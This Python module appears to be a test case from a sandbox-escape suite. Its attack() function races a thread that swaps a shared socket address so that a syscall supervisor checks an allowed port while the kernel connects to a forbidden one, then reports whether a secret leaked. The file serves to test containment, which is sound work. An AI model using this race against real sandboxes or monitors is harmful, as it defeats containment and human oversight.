"""Flip the address between the supervisor's look and the kernel's use."""

META = {"group": "network", "seen": "net:", "effects": ["net: 127.0.0.1:{other_port}"]}


def attack():
    import socket
    import struct
    import threading
    import time

    def address(port):
        return struct.pack("=H", 2) + struct.pack(">H", port) + socket.inet_aton("127.0.0.1") + bytes(8)

    good, bad = address(T["other_port"]), address(T["tcp_port"])
    shared = ctypes.create_string_buffer(good, 16)
    done = []

    def flip():
        while not done:
            ctypes.memmove(shared, bad, 16)
            ctypes.memmove(shared, good, 16)

    threading.Thread(target=flip, daemon=True).start()
    end = time.time() + 1
    try:
        while time.time() < end:
            channel = socket.socket()
            channel.settimeout(0.05)
            if sysc("connect", channel.fileno(), shared, 16)[0] == 0 or True:
                try:
                    if T["secret"].encode() in channel.recv(64):
                        return "ESCAPED: the flip won"
                except OSError:
                    pass
            channel.close()
    finally:
        done.append(1)
    return "contained"
